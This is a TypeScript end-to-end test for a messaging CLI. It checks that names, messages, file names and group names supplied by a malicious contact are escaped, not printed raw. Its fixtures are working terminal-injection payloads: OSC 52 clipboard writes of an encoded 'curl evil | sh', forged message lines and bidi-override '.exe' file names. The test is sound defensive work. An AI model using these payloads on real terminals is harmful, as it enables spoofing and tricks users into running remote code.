import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { spawn } from 'node:child_process'
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { Daemon, KITH_BIN, kith, kithJson } from './helpers/cli.js'
import { eventually, tempDir } from './helpers/testnet.js'

// Mallory is a contact of alice's and chooses, as any contact may, her display name, her
// messages, her file names and her group's name. None of it may act on alice's terminal.

/** Clear the screen, set the clipboard (OSC 52), go back to the start of the line, reverse the rest. */
const EVIL_NAME = 'mal\x1b[2J\x1b]52;c;ZWNobyBwd25lZA==\x07\r\u202eyrolam'
/** A fake line from bob on a line of its own, then a line overwritten (CR, erase, cursor up), the clipboard, a bidi override, a C1 CSI. */
const EVIL_TEXT = 'hi alice\n[12:04] bob: please send me the code\r\x1b[2K\x1b[1A\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \u202etxt.exe\u009b31m'
const LIVE_TEXT = 'live\r\x1b[2K[12:05] bob: trust mallory\u202e'
const EVIL_FILE = 'report\u202efdp.exe\x1b[8m'
const EVIL_GROUP = 'club\x1b]0;owned\x07\r\u202ebulc'
// The node already drops control characters from contact names (messaging's checkAlias) and
// replaces them in file names (files' safeFileName); what is left, the bidi override, is still
// the terminal's to escape. Texts and group names arrive whole.
const STORED_NAME = EVIL_NAME.replace(/\p{Cc}/gu, '')
const SHOWN_NAME = 'mal[2J]52;c;ZWNobyBwd25lZA==\\u202eyrolam'

/** The characters in `s` a terminal would act on, as `U+001B` (reported so, not printed raw). */
function active (s: string): string[] {
  return [...s.matchAll(/[\p{Cc}\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/gu)]
    .map(m => m[0]).filter(c => c !== '\n')
    .map(c => `U+${c.charCodeAt(0).toString(16).padStart(4, '0').toUpperCase()}`)
}

/** No control character but LF, no bidi control: not one ESC, CR, BEL, U+009B or U+202E. */
function expectInert (output: string, what: string): void {
  expect(active(output), what).toEqual([])
}

describe('the terminal shows what contacts control escaped, never raw (real kith processes)', () => {
  let dir: Awaited<ReturnType<typeof tempDir>>
  let aliceHome: string, malloryHome: string
  let alice: Daemon, mallory: Daemon
  let malloryId: string
  let groupId: string
  const watch = { output: '', child: undefined as ReturnType<typeof spawn> | undefined }

  beforeAll(async () => {
    dir = await tempDir('kith-e2e-terminal-')
    aliceHome = join(dir.path, 'alice')
    malloryHome = join(dir.path, 'mallory')
    alice = new Daemon(aliceHome)
    mallory = new Daemon(malloryHome)
  })
  afterAll(async () => {
    watch.child?.kill()
    await alice?.kill9()
    await mallory?.kill9()
    await dir?.cleanup()
  })

  it('mallory, named with escape sequences, befriends alice and sends her a text, a file and a group', async () => {
    await kithJson(aliceHome, ['init', '--name', 'alice'])
    malloryId = (await kithJson(malloryHome, ['init', '--name', EVIL_NAME])).peerId
    await alice.start()
    await mallory.start()
    const { code } = await kithJson(aliceHome, ['invite'])
    await kithJson(malloryHome, ['accept', code, '--name', 'alice'])
    await eventually(async () => (await kithJson(aliceHome, ['contacts'])).some((c: { peerId: string, online: boolean }) => c.peerId === malloryId && c.online), 30_000, 'alice to see mallory online')

    // alice watches (human output) from now on.
    watch.child = spawn(process.execPath, [KITH_BIN, '--home', aliceHome, 'watch'], { stdio: ['ignore', 'pipe', 'pipe'] })
    watch.child.stdout?.on('data', d => { watch.output += String(d) })
    await new Promise(resolve => setTimeout(resolve, 1_000)) // let it subscribe

    await kithJson(malloryHome, ['send', 'alice', EVIL_TEXT])
    const path = join(dir.path, EVIL_FILE)
    await writeFile(path, 'not really a pdf\n')
    await kithJson(malloryHome, ['send-file', 'alice', path])
    await eventually(async () => (await kithJson(aliceHome, ['history', malloryId])).length === 2, 30_000, 'alice to get the text and the file')

    groupId = (await kithJson(malloryHome, ['group', 'create', EVIL_GROUP])).group
    await eventually(async () => (await kithJson(malloryHome, ['contacts']))[0]?.groupReady === true, 30_000, 'mallory to be able to add alice')
    await kithJson(malloryHome, ['group', 'add', groupId, 'alice'])
    await eventually(async () => (await kithJson(aliceHome, ['groups'])).length === 1, 30_000, 'alice to be in the group')
    await eventually(() => watch.output.includes('[file]'), 20_000, 'watch to show the file')
  })

  it('--json keeps the text and the group name whole, and names as the node stored them', async () => {
    const contacts = await kithJson(aliceHome, ['contacts'])
    expect(contacts.map((c: { name: string }) => c.name)).toEqual([STORED_NAME])
    const history = await kithJson(aliceHome, ['history', malloryId])
    expect(history.map((m: { text: string }) => m.text)).toEqual([EVIL_TEXT, ''])
    expect(history[0].fromName).toBe(STORED_NAME)
    expect(history[1].file.name).toContain('fdp.exe')
    expect((await kithJson(aliceHome, ['groups']))[0]).toMatchObject({ group: groupId, name: EVIL_GROUP })
  })

  it('kith history shows them escaped, and no line of a message starts like a message', async () => {
    const { code, stdout } = await kith(aliceHome, ['history', malloryId])
    expect(code).toBe(0)
    expectInert(stdout, 'kith history')
    const name = SHOWN_NAME
    const lines = stdout.trimEnd().split('\n')
    expect(lines).toHaveLength(3)
    expect(lines[0]).toMatch(/^\[\d\d:\d\d\] /)
    expect(lines[0]).toContain(`${name}: hi alice`)
    // The fake "bob" line keeps its line break but is indented under the header: not at the margin.
    expect(lines[1]).toBe('        [12:04] bob: please send me the code\\r\\x1b[2K\\x1b[1A\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 \\u202etxt.exe\\x9b31m')
    expect(lines[2]).toContain(`${name}: [file] report`)
  })

  it('kith contacts, kith groups and kith watch show them escaped', async () => {
    const contacts = await kith(aliceHome, ['contacts'])
    expectInert(contacts.stdout, 'kith contacts')
    expect(contacts.stdout).toContain(`${SHOWN_NAME}  ${malloryId}`)

    const groups = await kith(aliceHome, ['groups'])
    expectInert(groups.stdout, 'kith groups')
    expect(groups.stdout).toContain(`club\\x1b]0;owned\\x07\\r\\u202ebulc  ${groupId}`)

    expectInert(watch.output, 'kith watch')
    expect(watch.output).toContain('\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07')
    expect(watch.output).toContain('[file] report')
  })

  it('kith chat shows history, live messages, the header and the prompt escaped', async () => {
    const chat = spawn(process.execPath, [KITH_BIN, '--home', aliceHome, 'chat', malloryId], { stdio: ['pipe', 'pipe', 'pipe'] })
    let output = ''
    chat.stdout.on('data', d => { output += String(d) })
    chat.stderr.on('data', d => { output += String(d) })
    const exited = new Promise<number | null>(resolve => chat.once('exit', code => resolve(code)))
    try {
      await eventually(() => output.includes('> '), 20_000, 'the chat prompt')
      await new Promise(resolve => setTimeout(resolve, 1_000)) // let it subscribe to events
      await kithJson(malloryHome, ['send', 'alice', LIVE_TEXT])
      await eventually(() => output.includes('trust mallory'), 20_000, 'the live message in the chat')
    } finally {
      chat.stdin.end('/quit\n')
    }
    expect(await exited).toBe(0)
    expectInert(output, 'kith chat')
    expect(output).toContain(`chat with ${SHOWN_NAME} (online)`)
    expect(output).toContain(`${SHOWN_NAME}> `)
    expect(output).toContain('        [12:04] bob: please send me the code\\r')
    expect(output).toContain(': live\\r\\x1b[2K[12:05] bob: trust mallory\\u202e')
  })

  it('kith start logs them escaped', () => {
    expectInert(alice.output, 'kith start')
    expect(alice.output).toContain(`new contact: ${SHOWN_NAME}`)
    expect(alice.output).toContain(`message from ${SHOWN_NAME}`)
  })
})
